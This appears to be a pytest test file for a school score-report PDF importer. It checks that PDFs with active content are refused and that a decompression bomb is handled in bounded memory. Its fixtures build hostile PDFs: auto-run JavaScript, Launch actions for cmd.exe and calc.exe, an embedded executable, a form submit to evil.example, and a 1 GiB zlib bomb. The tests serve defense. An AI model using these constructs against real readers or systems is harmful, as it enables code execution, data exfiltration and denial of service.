"""Hostile PDFs: active content is refused before anything is stored, and checking a PDF that
inflates to a gigabyte costs bounded memory (measured on a real `ssr-console import` process)."""

from __future__ import annotations

import io
import resource
import subprocess
import sys
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from sqlalchemy.engine import Engine
from sqlmodel import Session, select

from services.core.settings import Settings
from services.intake.importer import _Checks, import_paths
from services.intake.pdf_checks import MAX_CHECK_MEMORY, check_single, decoded_size
from services.intake.records import ImportException, Reason
from services.intake.score_reports import ScoreReport
from tests.intake_fixtures import LEA_CDS, SSIDS, merged, name, seed_roster, ssr

GiB = 1 << 30


def _action(kind: str, **keys: Any) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name("/" + kind), **keys)


def _annotate(pdf: pikepdf.Pdf, subtype: str, **keys: Any) -> None:
    annotation = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=[0, 0, 100, 20], **keys)
    )
    pdf.pages[0].obj.Annots = Array([annotation])


def _link(kind: str, **keys: Any) -> Callable[[pikepdf.Pdf], None]:
    return lambda pdf: _annotate(pdf, "Link", A=_action(kind, **keys))


def _open_js(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = _action("JavaScript", JS=String("app.alert('hi')"))


def _js_name_tree(pdf: pikepdf.Pdf) -> None:
    script = pdf.make_indirect(_action("JavaScript", JS=String("this.print()")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("run"), script])))


def _executable(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" + b"\x00" * 60)


def _page_aa(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=_action("Launch", F=String("cmd.exe")))


def _xfa(pdf: pikepdf.Pdf) -> None:
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)


def _rich_media(pdf: pikepdf.Pdf) -> None:
    _annotate(pdf, "RichMedia", RichMediaContent=Dictionary(Assets=Dictionary()))


ACTIVE = {
    "openaction_javascript": _open_js,
    "javascript_name_tree": _js_name_tree,
    "embedded_executable": _executable,
    "launch_link": _link("Launch", F=String("calc.exe")),
    "page_additional_actions": _page_aa,
    "submit_form": _link("SubmitForm", F=String("https://evil.example/collect")),
    "import_data": _link("ImportData", F=String("data.fdf")),
    "goto_remote": _link("GoToR", F=String("other.pdf"), D=Array([0, Name.Fit])),
    "javascript_uri": _link("URI", URI=String("javascript:app.alert(1)")),
    "xfa_form": _xfa,
    "rich_media": _rich_media,
}


def _with(data: bytes, change: Callable[[pikepdf.Pdf], None], hide: bool = False) -> bytes:
    """``data`` changed by ``change``; ``hide`` packs every object into compressed object
    streams, where a byte scan of the file would not see the names."""
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        change(pdf)
        mode = pikepdf.ObjectStreamMode.generate if hide else pikepdf.ObjectStreamMode.preserve
        pdf.save(buffer, object_stream_mode=mode)
    return buffer.getvalue()


def _inbox(settings: Settings) -> Path:
    inbox = settings.data_dir / "inbox"
    inbox.mkdir(parents=True, exist_ok=True)
    return inbox


def _stored(engine: Engine) -> list[ScoreReport]:
    with Session(engine) as session:
        return list(session.exec(select(ScoreReport)).all())


def _refusals(engine: Engine) -> dict[str, str]:
    with Session(engine) as session:
        rows = session.exec(select(ImportException)).all()
    return {Path(r.source.split(" pages ")[0]).name: r.reason for r in rows}


def test_every_form_of_active_content_is_refused_and_nothing_stored(
    engine: Engine, settings: Settings
) -> None:
    seed_roster(engine)
    inbox = _inbox(settings)
    expected = {}
    for n, (label, change) in enumerate(ACTIVE.items()):
        ssid = SSIDS[n % len(SSIDS)]
        file = f"{ssid}_CAASPP_{label.replace('_', '-')}_2026_en.pdf"
        (inbox / file).write_bytes(_with(ssr(ssid), change, hide=n % 2 == 1))
        expected[file] = Reason.ACTIVE_CONTENT.value
    hostile_merged = "grade5_CAASPP_SB_2026_en.pdf"
    (inbox / hostile_merged).write_bytes(_with(merged(ssr(SSIDS[0]), ssr(SSIDS[1])), _open_js))
    expected[hostile_merged] = Reason.ACTIVE_CONTENT.value

    summary = import_paths(engine, settings, [inbox], None, lea_cds=LEA_CDS)

    assert _refusals(engine) == expected
    assert summary.progress.stored == 0 and _stored(engine) == []
    assert summary.reasons == {"active_content": len(expected)}


def test_a_plain_web_link_is_not_active_content(engine: Engine, settings: Settings) -> None:
    """Printed SSRs carry web addresses; a link to one is a link, not a program."""
    seed_roster(engine)
    inbox = _inbox(settings)
    web = _link("URI", URI=String("https://www.startingsmarter.org/"))
    (inbox / name(SSIDS[0])).write_bytes(_with(ssr(SSIDS[0]), web))
    summary = import_paths(engine, settings, [inbox], None, lea_cds=LEA_CDS)
    assert (summary.progress.stored, summary.progress.exceptions) == (1, 0)


def _inflating_stream(size: int) -> bytes:
    """zlib data (about 1 MB) that inflates to ``size`` bytes of spaces: one block is compressed
    once and repeated, with the checksum of the whole."""
    block = b" " * (1 << 20)
    deflate = zlib.compressobj(9)
    head = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    middle = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    tail = deflate.flush()
    checksum = 1
    for _ in range(size // len(block)):
        checksum = zlib.adler32(block, checksum)
    return head + middle * (size // len(block) - 1) + tail[:-4] + checksum.to_bytes(4, "big")


def _bomb(data: bytes, size: int = GiB, count: int = 1) -> bytes:
    """A real SSR whose page 1 draws ``count`` more content streams of ``size`` spaces each."""

    def add(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0].obj
        contents = page.Contents
        streams = [*(contents if isinstance(contents, Array) else [contents])]
        for _ in range(count):
            streams.append(pdf.make_stream(b""))
            streams[-1].write(_inflating_stream(size), filter=Name.FlateDecode)
        page.Contents = Array(streams)

    return _with(data, add)


def test_a_pdf_inflating_to_a_gigabyte_is_refused_in_bounded_memory(
    engine: Engine, settings: Settings
) -> None:
    seed_roster(engine)
    inbox = _inbox(settings)
    bomb = _bomb(ssr(SSIDS[0]))
    assert len(bomb) < 2 * 1024 * 1024
    (inbox / name(SSIDS[0])).write_bytes(bomb)

    def ceiling() -> None:  # should the bound break, the test fails instead of the machine
        resource.setrlimit(resource.RLIMIT_AS, (4 * GiB, 4 * GiB))

    # The peak is the import process's own VmHWM, written as it exits: ru_maxrss from wait4 would
    # also carry the RSS of this pytest process at fork time, which Linux keeps across exec.
    peak_file = settings.data_dir.parent / "peak-kib"
    report_peak = (
        "import atexit, runpy, sys\n"
        "def peak():\n"
        "    for line in open('/proc/self/status'):\n"
        "        if line.startswith('VmHWM:'):\n"
        f"            open({str(peak_file)!r}, 'w').write(line.split()[1])\n"
        "atexit.register(peak)\n"
        "sys.argv[0] = 'ssr-console'\n"
        "runpy.run_module('console.cli', run_name='__main__')\n"
    )
    command = [sys.executable, "-c", report_peak, "--database-url", settings.database_url]
    command += ["--data-dir", str(settings.data_dir), "import", str(inbox), "--lea", LEA_CDS]
    child = subprocess.run(command, capture_output=True, preexec_fn=ceiling, check=False)
    out, err = child.stdout.decode(), child.stderr.decode()
    peak_mib = int(peak_file.read_text()) / 1024  # kB
    print(f"peak RSS of the import process: {peak_mib:.0f} MiB")

    assert child.returncode == 0, err
    assert "refused 1: pdf_too_large" in out
    assert _stored(engine) == []
    assert peak_mib < 300


def test_streams_that_add_up_on_one_page_are_refused_too() -> None:
    """Three streams of 30 MiB each pass any per-stream limit; PDFium decodes them all at once."""
    verdict = check_single(_bomb(ssr(SSIDS[0]), size=30 << 20, count=3), SSIDS[0])
    assert verdict.reason is Reason.PDF_TOO_LARGE
    assert "page 1 decodes to more than" in verdict.detail
    assert check_single(_bomb(ssr(SSIDS[0]), size=1 << 20, count=3), SSIDS[0]).reason is None


def test_measuring_stops_just_past_the_limit() -> None:
    raw = _inflating_stream(64 << 20)
    assert decoded_size(raw, ["/FlateDecode"], 1 << 30) == 64 << 20
    assert decoded_size(raw, ["/FlateDecode"], 1 << 20) <= (1 << 20) + (1 << 16)


def test_pdf_checking_processes_have_a_memory_ceiling() -> None:
    """With several checkers, each is a process whose address space is capped: a PDF that got
    past the limits fails its own check with MemoryError instead of taking the server's memory."""
    checks = _Checks(workers=2)
    assert checks.pool is not None
    try:
        soft, _ = checks.pool.submit(resource.getrlimit, resource.RLIMIT_AS).result()
        assert soft == MAX_CHECK_MEMORY
        with pytest.raises(MemoryError):
            checks.pool.submit(bytearray, 2 * GiB).result()
    finally:
        checks.close()
